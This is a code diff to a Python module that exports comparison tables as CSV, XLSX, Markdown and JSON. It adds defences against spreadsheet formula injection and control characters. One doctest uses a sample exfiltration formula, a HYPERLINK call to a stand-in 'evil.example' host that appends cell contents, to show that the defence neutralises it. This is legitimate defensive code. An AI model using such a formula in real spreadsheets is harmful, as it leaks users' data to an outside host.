@@ -1,11 +1,21 @@
 """Write a comparison table as CSV, XLSX, Markdown or JSON, with quotes, sources and
-a provenance block; and read each back (so exports can be checked and reloaded)."""
+a provenance block; and read each back (so exports can be checked and reloaded).
+
+Every value comes from documents, manifests or a user's topic, so none is trusted in a
+spreadsheet: exports carry no control characters (:func:`plain`), and a CSV cell that
+a spreadsheet would read as a formula (one opening with ``=``, ``+``, ``-``, ``@``, a
+tab or a carriage return) is prefixed with an apostrophe (:func:`inert`); in XLSX every
+text is a string cell, never a formula, with its text unchanged.
+"""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import logging
+import re
+from collections.abc import Sequence
 from dataclasses import asdict
 from pathlib import Path
 from typing import Any
@@ -13,12 +23,45 @@ from typing import Any
 from regionplans.compare.table import Cell, ComparisonTable
 from regionplans.errors import ConfigError
 
+log = logging.getLogger(__name__)
+
 FORMATS: tuple[str, ...] = ("csv", "xlsx", "md", "json")
 COLUMNS: tuple[str, ...] = (
     "row", "group", "column", "label", "triggers", "deadlines", "amounts", "confidence",
     "empty_reason", "searched_documents", "evidence_n", "quote", "title", "publisher",
     "heading_path", "page", "date", "source", "secondary",
 )  # fmt: skip
+
+
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def plain(value: Any) -> Any:
+    """``value`` without control characters (tab and line breaks kept), if it is text.
+
+    >>> plain("Region" + chr(0) + " Skåne" + chr(8))
+    'Region Skåne'
+    """
+    return _CONTROL.sub("", value) if isinstance(value, str) else value
+
+
+def risky(value: Any) -> bool:
+    """Whether a spreadsheet would take text ``value`` for a formula."""
+    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_START)
+
+
+def inert(value: Any) -> Any:
+    """``value`` as a CSV cell no spreadsheet evaluates: control characters dropped, and
+    an apostrophe before text that opens like a formula.
+
+    >>> print(inert('=HYPERLINK("http://evil.example/?"&A2)'))
+    '=HYPERLINK("http://evil.example/?"&A2)
+    >>> inert(-3), inert("- en punkt")
+    (-3, "'- en punkt")
+    """
+    value = plain(value)
+    return "'" + value if risky(value) else value
 
 
 def _source(ev: Any) -> str:
@@ -69,15 +112,15 @@ def to_csv(table: ComparisonTable) -> str:
     """CSV: provenance lines starting with ``#``, then one line per evidence passage."""
     buf = io.StringIO()
     for k, v in _provenance_lines(table):
-        buf.write(f"# {k}: {v}\n")
+        buf.write(f"# {k}: {' '.join(str(plain(v)).split())}\n")
     writer = csv.DictWriter(buf, fieldnames=list(COLUMNS))
     writer.writeheader()
-    writer.writerows(cell_rows(table))
+    writer.writerows({k: inert(v) for k, v in row.items()} for row in cell_rows(table))
     return buf.getvalue()
 
 
 def _md(text: Any) -> str:
-    return str(text).replace("|", "\\|").replace("\n", " ")
+    return str(plain(text)).replace("|", "\\|").replace("\n", " ")
 
 
 def to_md(table: ComparisonTable) -> str:
@@ -123,15 +166,26 @@ def write_xlsx(table: ComparisonTable, path: str | Path) -> Path:
     ws = wb.active
     assert ws is not None
     ws.title = "cells"
-    ws.append(list(COLUMNS))
+    _append(ws, list(COLUMNS))
     for r in cell_rows(table):
-        ws.append([r[c] for c in COLUMNS])
+        _append(ws, [r[c] for c in COLUMNS])
     prov = wb.create_sheet("provenance")
     for k, v in _provenance_lines(table):
-        prov.append([k, v])
+        _append(prov, [k, v])
     path = Path(path)
     wb.save(path)
     return path
+
+
+def _append(sheet: Any, values: list[Any]) -> None:
+    """A row of string cells that are never formulas (openpyxl makes any text opening
+    with "=" one); cells that look like one are marked as text for Excel too."""
+    sheet.append([plain(v) for v in values])
+    for cell in sheet[sheet.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
+            if risky(cell.value):
+                cell.quotePrefix = True
 
 
 def write(table: ComparisonTable, path: str | Path, fmt: str) -> Path:
@@ -144,6 +198,21 @@ def write(table: ComparisonTable, path: str | Path, fmt: str) -> Path:
         raise ConfigError(f"unknown export format {fmt!r}; choose one of {', '.join(FORMATS)}")
     path.write_text(text(table), encoding="utf-8", newline="")
     return path
+
+
+def write_each(table: ComparisonTable, folder: Path, formats: Sequence[str] = ("csv", "xlsx", "md"),
+               *, stem: str = "table") -> tuple[list[Path], list[tuple[str, str]]]:  # fmt: skip
+    """Write ``table`` once per format into ``folder``, each independently of the others:
+    the files written, and ``(format, error)`` for each format that failed."""
+    written: list[Path] = []
+    failed: list[tuple[str, str]] = []
+    for fmt in formats:
+        try:
+            written.append(write(table, folder / f"{stem}.{fmt}", fmt))
+        except Exception as exc:  # noqa: BLE001 - one export failing must not cost the others
+            log.warning("cannot write the %s export of %r: %s", fmt, table.topic, exc)
+            failed.append((fmt, f"{type(exc).__name__}: {exc}"))
+    return written, failed
 
 
 def write_csv(table: ComparisonTable, path: str | Path) -> Path:
@@ -179,5 +248,5 @@ def read_rows(path: str | Path) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO("".join(lines))))
 
 
-__all__ = ["FORMATS", "Cell", "cell_rows", "read_rows", "to_csv", "to_json", "to_md", "write",
-           "write_csv", "write_json", "write_md", "write_xlsx"]  # fmt: skip
+__all__ = ["FORMATS", "Cell", "cell_rows", "inert", "plain", "read_rows", "to_csv", "to_json", "to_md", "write",
+           "write_csv", "write_each", "write_json", "write_md", "write_xlsx"]  # fmt: skip
